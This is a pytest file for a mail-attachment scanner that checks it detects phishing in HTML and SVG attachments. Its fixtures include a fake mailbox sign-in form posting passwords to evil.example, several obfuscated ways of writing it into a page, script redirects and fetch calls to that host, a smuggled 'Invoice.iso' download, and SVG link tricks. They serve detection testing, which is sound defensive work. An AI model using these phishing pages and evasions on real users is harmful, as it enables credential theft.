"""If these fail, a fake sign-in page passes because it is a file, or because it is encoded."""

import base64
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.growth import grows_linearly
from tests.mail.attachments import made

FORM = "<form action='https://evil.example/post'><p>Sign in to your mailbox</p><input type=password></form>"
BASE64 = base64.b64encode(FORM.encode()).decode()


def test_a_page_is_read_as_a_person_sees_it() -> None:
    page = f"<html><body>{FORM}<a href='https://x.example/a'>Read it</a><i style='display:none'>ham</i>"
    found = made.read("a.html", page.encode())
    assert "Sign in to your mailbox" in found.text and "ham" not in found.text
    assert "ham" in found.hidden_text
    assert [form.action for form in found.forms] == ["https://evil.example/post"]
    assert ("https://x.example/a", "Read it") in [(link.target, link.shown) for link in found.links]
    assert not found.scripts


@pytest.mark.parametrize(
    "script",
    [
        f"document.write(atob('{BASE64}'))",
        f"document.write(unescape('{quote(FORM)}'))",
        f"document.write(decodeURIComponent('{''.join(f'%{byte:02x}' for byte in FORM.encode())}'))",
        f"document.write(String.fromCharCode({','.join(str(ord(mark)) for mark in FORM)}))",
        f"x=[{', '.join(str(ord(mark)) for mark in FORM)}];write(x)",
        "document.write('" + "".join(f"\\x{byte:02x}" for byte in FORM.encode()) + "')",
        "document.write('" + "".join(f"\\u00{byte:02x}" for byte in FORM.encode()) + "')",
        f"var a='{BASE64[:40]}' + '{BASE64[40:]}'; document.write(atob(a))",
        f"h='{FORM.encode().hex()}'",
        f"document.write(atob('{base64.b64encode(quote(FORM, safe='').encode()).decode()}'))",
        f"x='{FORM[::-1].encode().hex()}'",
    ],
)
def test_a_page_that_is_written_by_a_script_is_read(script: str) -> None:
    found = made.read("a.html", f"<html><script>{script}</script>".encode())
    assert found.scripts
    assert "Sign in to your mailbox" in found.text
    assert [form.action for form in found.forms] == ["https://evil.example/post"]


@pytest.mark.parametrize(
    "script",
    [
        "window.location.href='https://evil.example/go'",
        "var u = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvZ28='); location = u",
        "location = 'https:\\/\\/evil.example\\/go'",
        "location = '//evil.example/go'",
        "fetch(`https://evil.example/go`)",
    ],
)
def test_the_address_a_script_goes_to_is_a_link(script: str) -> None:
    found = made.read("a.html", f"<script>{script}</script>".encode())
    assert {link.host for link in found.links} == {"evil.example"}


def test_libraries_and_namespaces_are_no_links() -> None:
    page = "<script>var n='http://www.w3.org/2000/svg', j='https://code.jquery.com/j.js' // a note</script>"
    assert made.read("a.html", page.encode()).links == ()


def test_a_host_that_only_begins_like_a_library_is_a_link() -> None:
    page = "<script>location='https://code.jquery.com.evil.example/x'</script>"
    assert [link.host for link in made.read("a.html", page.encode()).links] == ["code.jquery.com.evil.example"]


def test_a_page_that_sends_on_by_itself_gives_its_target() -> None:
    page = "<meta http-equiv=refresh content='0;url=https://evil.example/go'><p>wait</p>"
    assert [link.host for link in made.read("a.html", page.encode()).links] == ["evil.example"]


def test_the_name_of_a_smuggled_file_is_told() -> None:
    page = "<script>a.download='Invoice.iso'</script>"
    assert made.read("a.html", page.encode()).names == ("Invoice.iso",)


def test_a_code_inside_the_page_is_read() -> None:
    picture = base64.b64encode(made.qr("https://evil.example/q")).decode()
    found = made.read("a.html", f"<p>Scan me</p><img src='data:image/png;base64,{picture}' width=200>".encode())
    assert found.codes == ("https://evil.example/q",)


@pytest.mark.parametrize(
    "inner",
    [
        "<script><![CDATA[location.href='https://evil.example/go']]></script>",
        "<a xlink:href='https://evil.example/go'><text>Open</text></a>",
        "<foreignObject><body><a href='https://evil.example/go'>Open</a></body></foreignObject>",
        "<g onload=\"location='https://evil.example/go'\"/>",
        "<script>location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvZ28=')</script>",
    ],
)
def test_an_svg_gives_its_links(inner: str) -> None:
    data = f"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'>{inner}</svg>".encode()
    found = made.read("a.svg", data)
    assert {link.host for link in found.links} == {"evil.example"}
    assert found.scripts is ("<script" in inner or "onload" in inner)


def test_an_entity_hides_no_address() -> None:
    data = b"<!DOCTYPE svg [<!ENTITY u 'https://evil.example/go'>]><svg><a href='&u;'>Open</a></svg>"
    assert "evil.example" in {link.host for link in made.read("a.svg", data).links}


def test_an_honest_svg_runs_nothing() -> None:
    assert not made.read("a.svg", b"<svg><title>Logo</title><path d='M0 0'/></svg>").scripts


@given(st.text(max_size=300))
def test_any_text_is_read(text: str) -> None:
    made.read("a.html", f"<html><script>{text}</script>{text}".encode(errors="replace"))
    made.read("a.svg", f"<svg>{text}".encode(errors="replace"))


@pytest.mark.parametrize(
    "piece",
    [
        "<script>",
        "%3c",
        "'+'",
        "\\x3c",
        "[1,",
        "fromCharCode(1,",
        "&#x3c;",
        "https://",
        "aGVsbG8gd29ybGQh ",
        "' ",
        "<a ",
    ],
)
def test_reading_a_page_is_linear(piece: str) -> None:
    grows_linearly(
        lambda data: made.read("a.html", data),
        lambda n: f"<html><script>{piece * n}".encode(),
        largest=1 << 15,
    )


@pytest.mark.parametrize("piece", ["<!ENTITY a 'b'>", "&a;", "xlink:href=", "<foreignObject"])
def test_reading_an_svg_is_linear(piece: str) -> None:
    grows_linearly(
        lambda data: made.read("a.svg", data),
        lambda n: f"<svg><!ENTITY a 'bbbbbbbbbbbbbbbb'>{piece * n}".encode(),
        largest=1 << 15,
    )


@pytest.mark.parametrize("name, tag", [("a.html", "html"), ("a.svg", "svg")])
@pytest.mark.thorough
def test_padding_hides_no_link(name: str, tag: str) -> None:
    padding = "<!-- -->" * 250_000
    data = f"<{tag}>{padding}<a href='https://evil.example/go'>Open</a></{tag}>".encode()
    assert {link.host for link in made.read(name, data).links} == {"evil.example"}
    assert made.unread(name, data) == {"too large"}
